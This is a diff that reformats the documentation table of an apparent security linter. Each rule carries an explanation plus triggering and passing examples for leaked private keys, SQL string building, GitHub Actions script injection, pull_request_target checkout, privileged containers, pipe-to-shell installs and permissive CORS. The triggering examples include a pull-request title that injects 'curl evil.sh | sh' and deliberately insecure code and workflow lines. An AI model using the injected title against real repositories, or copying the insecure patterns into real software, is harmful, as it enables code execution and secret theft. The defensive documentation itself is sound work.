@@ -30,17 +30,29 @@ export const RULE_DOCS: Readonly<Record<string, RuleDocData>> = {
   },
   'no-private-key': {
     why: 'Whoever has the private key can impersonate the server or the user it belongs to, and decrypt what was encrypted for it.',
-    fires: { path: 'deploy/server.key', lines: ['-----BEGIN PRIVATE KEY-----', SAMPLE_KEY_LINE, '-----END PRIVATE KEY-----'] },
+    fires: {
+      path: 'deploy/server.key',
+      lines: ['-----BEGIN PRIVATE KEY-----', SAMPLE_KEY_LINE, '-----END PRIVATE KEY-----'],
+    },
     passes: { path: 'src/pem.ts', lines: ["if (pem.startsWith('-----BEGIN PRIVATE KEY-----')) return 'pkcs8';"] },
   },
   'no-env-file': {
-    why: '.env files hold the secrets and settings of one machine; committed, they leak the secrets and override other machines\' settings.',
+    why: ".env files hold the secrets and settings of one machine; committed, they leak the secrets and override other machines' settings.",
     fires: { path: '.env', lines: ['# local settings', 'DATABASE_URL=postgres://localhost/app_dev'] },
     passes: { path: '.env.example', lines: ['DATABASE_URL='] },
   },
   'no-conflict-marker': {
     why: 'A merge conflict marker left in a file breaks the build at best and silently changes behaviour at worst (in data and configuration files).',
-    fires: { path: 'src/config.ts', lines: ['<<<<<<< HEAD', 'export const retries = 3;', '=======', 'export const retries = 5;', '>>>>>>> feature/retries'] },
+    fires: {
+      path: 'src/config.ts',
+      lines: [
+        '<<<<<<< HEAD',
+        'export const retries = 3;',
+        '=======',
+        'export const retries = 5;',
+        '>>>>>>> feature/retries',
+      ],
+    },
     passes: { path: 'docs/guide.md', lines: ['Title', '======='] },
   },
   'no-focused-test': {
@@ -124,29 +136,84 @@ export const RULE_DOCS: Readonly<Record<string, RuleDocData>> = {
     passes: { path: 'src/client.ts', lines: ['const agent = new https.Agent({ ca: internalCa });'] },
   },
   'no-sql-string-building': {
-    why: 'SQL text built from a value lets the value change the query: reading other users\' rows, changing data, dropping tables.',
+    why: "SQL text built from a value lets the value change the query: reading other users' rows, changing data, dropping tables.",
     fires: { path: 'src/users.ts', lines: ['const rows = await db.query(`SELECT * FROM users WHERE id = ${id}`);'] },
-    passes: { path: 'src/users.ts', lines: ['const rows = await db.query("SELECT * FROM users WHERE id = $1", [id]);'] },
+    passes: {
+      path: 'src/users.ts',
+      lines: ['const rows = await db.query("SELECT * FROM users WHERE id = $1", [id]);'],
+    },
   },
   'no-actions-script-injection': {
     why: 'GitHub pastes ${{ }} expressions into the script before the shell runs it: a pull request titled `"; curl evil.sh | sh; "` runs with the workflow\'s token and secrets.',
-    fires: { path: '.github/workflows/triage.yml', lines: ['on: issues', 'jobs:', '  triage:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo "${{ github.event.issue.title }}"'] },
-    passes: { path: '.github/workflows/triage.yml', lines: ['on: issues', 'jobs:', '  triage:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo "$TITLE"', '        env:', '          TITLE: ${{ github.event.issue.title }}'] },
+    fires: {
+      path: '.github/workflows/triage.yml',
+      lines: [
+        'on: issues',
+        'jobs:',
+        '  triage:',
+        '    runs-on: ubuntu-latest',
+        '    steps:',
+        '      - run: echo "${{ github.event.issue.title }}"',
+      ],
+    },
+    passes: {
+      path: '.github/workflows/triage.yml',
+      lines: [
+        'on: issues',
+        'jobs:',
+        '  triage:',
+        '    runs-on: ubuntu-latest',
+        '    steps:',
+        '      - run: echo "$TITLE"',
+        '        env:',
+        '          TITLE: ${{ github.event.issue.title }}',
+      ],
+    },
   },
   'no-pull-request-target-checkout': {
-    why: 'pull_request_target runs with the base repository\'s secrets and a write token; checking out and building the pull request\'s code hands both to its author.',
-    fires: { path: '.github/workflows/pr.yml', lines: ['on: pull_request_target', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '        with:', '          ref: ${{ github.event.pull_request.head.sha }}'] },
-    passes: { path: '.github/workflows/pr.yml', lines: ['on: pull_request', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '        with:', '          ref: ${{ github.event.pull_request.head.sha }}'] },
+    why: "pull_request_target runs with the base repository's secrets and a write token; checking out and building the pull request's code hands both to its author.",
+    fires: {
+      path: '.github/workflows/pr.yml',
+      lines: [
+        'on: pull_request_target',
+        'jobs:',
+        '  test:',
+        '    runs-on: ubuntu-latest',
+        '    steps:',
+        '      - uses: actions/checkout@v4',
+        '        with:',
+        '          ref: ${{ github.event.pull_request.head.sha }}',
+      ],
+    },
+    passes: {
+      path: '.github/workflows/pr.yml',
+      lines: [
+        'on: pull_request',
+        'jobs:',
+        '  test:',
+        '    runs-on: ubuntu-latest',
+        '    steps:',
+        '      - uses: actions/checkout@v4',
+        '        with:',
+        '          ref: ${{ github.event.pull_request.head.sha }}',
+      ],
+    },
   },
   'no-privileged-container': {
-    why: 'A privileged container (or one sharing the host\'s network or processes) can take over the host: a bug in the container becomes a compromise of the node.',
+    why: "A privileged container (or one sharing the host's network or processes) can take over the host: a bug in the container becomes a compromise of the node.",
     fires: { path: 'k8s/deploy.yaml', lines: ['        securityContext:', '          privileged: true'] },
-    passes: { path: 'k8s/deploy.yaml', lines: ['        securityContext:', '          allowPrivilegeEscalation: false'] },
+    passes: {
+      path: 'k8s/deploy.yaml',
+      lines: ['        securityContext:', '          allowPrivilegeEscalation: false'],
+    },
   },
   'no-pipe-to-shell': {
     why: 'Piping a download into a shell runs whatever the server sends at that moment, unchecked: a compromised server or mirror runs code on every machine that builds.',
     fires: { path: 'scripts/install.sh', lines: ['curl -fsSL https://get.example.sh | sh'] },
-    passes: { path: 'scripts/install.sh', lines: ['curl -fsSL https://get.example.sh -o install.sh', 'sha256sum -c install.sh.sha256 && sh install.sh'] },
+    passes: {
+      path: 'scripts/install.sh',
+      lines: ['curl -fsSL https://get.example.sh -o install.sh', 'sha256sum -c install.sh.sha256 && sh install.sh'],
+    },
   },
   'no-world-writable': {
     why: 'A file anyone may write can be changed by any local user or process: a program, a configuration or an upload folder becomes a way in.',
@@ -154,14 +221,17 @@ export const RULE_DOCS: Readonly<Record<string, RuleDocData>> = {
     passes: { path: 'scripts/setup.sh', lines: ['chmod 750 /var/www/uploads'] },
   },
   'no-cors-any-origin-credentials': {
-    why: 'With any origin allowed together with credentials, every website the user visits can call the API with the user\'s cookies and read the answers.',
+    why: "With any origin allowed together with credentials, every website the user visits can call the API with the user's cookies and read the answers.",
     // diff-review-ignore no-cors-any-origin-credentials (documentation examples)
     fires: { path: 'src/server.ts', lines: ['app.use(cors({ origin: true, credentials: true }));'] },
     // diff-review-ignore no-cors-any-origin-credentials (documentation examples)
-    passes: { path: 'src/server.ts', lines: ["app.use(cors({ origin: ['https://app.example.com'], credentials: true }));"] },
+    passes: {
+      path: 'src/server.ts',
+      lines: ["app.use(cors({ origin: ['https://app.example.com'], credentials: true }));"],
+    },
   },
   'no-debug-in-production': {
-    why: 'Debug pages show stack traces, settings and SQL to anyone; Flask\'s debugger on a public interface runs code for anyone who reaches it.',
+    why: "Debug pages show stack traces, settings and SQL to anyone; Flask's debugger on a public interface runs code for anyone who reaches it.",
     fires: { path: 'app.py', lines: ["    app.run(host='0.0.0.0', port=5000, debug=True)"] },
     passes: { path: 'app.py', lines: ['    app.run(debug=True)'] },
   },
